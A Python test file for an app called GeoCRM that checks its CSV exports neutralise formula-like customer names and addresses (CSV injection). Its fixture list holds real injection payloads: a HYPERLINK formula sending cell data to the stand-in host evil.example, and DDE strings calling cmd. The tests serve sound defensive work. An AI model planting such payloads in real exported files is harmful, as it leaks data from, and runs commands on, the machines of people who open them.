"""No CSV GeoCRM writes carries a live spreadsheet formula (OWASP's CSV injection rule):
customers named like formulas come out of every CSV route and command as text."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from sqlalchemy import text

from geocrm import csvsafe
from geocrm.cli import main
from geocrm.cube import cells_csv

#: Names an attacker (or a careless import) can give a customer.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)


def _live(cell: str) -> bool:
    return cell.startswith(csvsafe.FORMULA_TRIGGERS) and not csvsafe._is_number(cell)


def _cells(csv_text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_text, newline="")) for cell in row]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=x", "'\t=x"),
        ("-12.5", "-12.5"),  # a number stays a number
        ("+358 40 123", "'+358 40 123"),  # not a number: a spreadsheet would evaluate it
        ("Kamppi", "Kamppi"),
        (-3, -3),
        (None, None),
    ],
)
def test_a_formula_cell_is_prefixed_and_anything_else_kept(value, written):
    assert csvsafe.neutralise(value) == written


@pytest.fixture(scope="module")
def formula_customers(engine, demo) -> list[dict]:
    """Six placed customers of one rep renamed (and one re-addressed) as formulas; restored
    afterwards."""
    with engine.connect() as conn:
        rows = [
            dict(r)
            for r in conn.execute(
                text(
                    "SELECT customer_id, name, address, assigned_rep_id AS rep_id, "
                    "ST_X(geom) AS lon, ST_Y(geom) AS lat FROM crm.customers "
                    "WHERE geom IS NOT NULL AND assigned_rep_id = (SELECT assigned_rep_id "
                    "FROM crm.customers WHERE geom IS NOT NULL AND assigned_rep_id IS NOT NULL "
                    "GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1) "
                    "ORDER BY customer_id LIMIT :n"
                ),
                {"n": len(FORMULAS)},
            ).mappings()
        ]
    rename = text(
        "UPDATE crm.customers SET name = :name, address = :address WHERE customer_id = :c"
    )
    with engine.begin() as conn:
        for row, formula in zip(rows, FORMULAS, strict=True):
            conn.execute(rename, {"c": row["customer_id"], "name": formula, "address": formula})
    yield rows
    with engine.begin() as conn:
        for row in rows:
            conn.execute(
                rename, {"c": row["customer_id"], "name": row["name"], "address": row["address"]}
            )


def _around(rows: list[dict]) -> dict:
    west, east = min(r["lon"] for r in rows) - 1e-4, max(r["lon"] for r in rows) + 1e-4
    south, north = min(r["lat"] for r in rows) - 1e-4, max(r["lat"] for r in rows) + 1e-4
    ring = [[west, south], [east, south], [east, north], [west, north], [west, south]]
    return {"type": "Polygon", "coordinates": [ring]}


def _assert_safe(csv_text: str) -> None:
    cells = _cells(csv_text)
    for formula in FORMULAS:
        assert "'" + formula in cells, f"{formula!r} not written as text"
    assert not [c for c in cells if _live(c)]


def test_zone_audiences_from_the_api_and_the_command_line_are_safe(
    client, engine, formula_customers, use_database, tmp_path
):
    res = client.post(
        "/api/zones",
        json={"name": "CSV injection", "kind": "polygon", "geometry": _around(formula_customers)},
    )
    assert res.status_code == 201, res.text
    zone_id = res.json()["id"]
    try:
        res = client.get(f"/api/zones/{zone_id}/audience.csv")
        assert res.status_code == 200
        _assert_safe(res.text)
        out = tmp_path / "audience.csv"
        assert main(["zones", "export", str(zone_id), "--out", str(out)]) == 0
        _assert_safe(out.read_bytes().decode("utf-8"))
    finally:
        with engine.begin() as conn:
            conn.execute(text("DELETE FROM crm.target_zones WHERE zone_id = :z"), {"z": zone_id})


def test_route_csvs_from_the_api_and_the_command_line_are_safe(
    client, engine, formula_customers, use_database, tmp_path
):
    with engine.connect() as conn:
        latest = conn.execute(text("SELECT max(occurred_at) FROM crm.interactions")).scalar()
    day = (latest.date() + dt.timedelta(days=1)).isoformat()
    rep_id = formula_customers[0]["rep_id"]
    ids = [r["customer_id"] for r in formula_customers]
    body = {"rep_id": rep_id, "date": day, "customer_ids": ids, "max_stops": len(ids)}
    res = client.post("/api/routes", params={"format": "csv"}, json=body)
    assert res.status_code == 200, res.text
    _assert_safe(res.text)
    out = tmp_path / "route.csv"
    customers = ",".join(map(str, ids))
    args = ["routes", "plan", "--rep", str(rep_id), "--date", day, "--customers", customers]
    assert main([*args, "--out", str(out)]) == 0
    _assert_safe(out.read_bytes().decode("utf-8"))


def test_a_geocoded_file_is_safe(city, use_database, tmp_path):
    source = tmp_path / "addresses.csv"
    with source.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "address"])
        writer.writerows([(f, f) for f in FORMULAS])
    out = tmp_path / "geocoded.csv"
    assert main(["geocode", str(source), "--out", str(out)]) == 0
    _assert_safe(out.read_bytes().decode("utf-8"))


def test_cube_cells_csv_is_safe():
    cells = [{"cell": 1, "h3": "=cmd", "res": 9, "customers": -4}]
    rows = list(csv.reader(io.StringIO(cells_csv(cells))))
    assert rows[1] == ["1", "'=cmd", "9", "-4"]
